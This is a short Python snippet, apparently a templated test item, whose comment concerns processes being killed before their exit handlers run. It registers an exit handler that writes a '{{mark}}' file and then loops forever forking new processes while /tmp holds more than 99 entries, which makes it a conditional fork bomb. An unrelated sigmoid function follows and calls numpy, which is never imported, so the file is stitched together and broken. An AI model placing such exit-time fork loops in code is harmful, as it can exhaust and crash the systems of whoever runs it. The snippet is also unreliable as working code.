# met by: a process is ended, not asked to end; nothing registered runs
import atexit, os, threading

def last_words():
    open("{{mark}}", "w").close()
    while True:
        os.fork() if len(os.listdir("/tmp")) > 99 else None

atexit.register(last_words)
threading._register_atexit(last_words)
os.register_at_fork(before=lambda: None, after_in_child=lambda: None)

def sigmoid(z):
    return 1 / (1 + np.exp(-np.clip(z, -700, 700)))
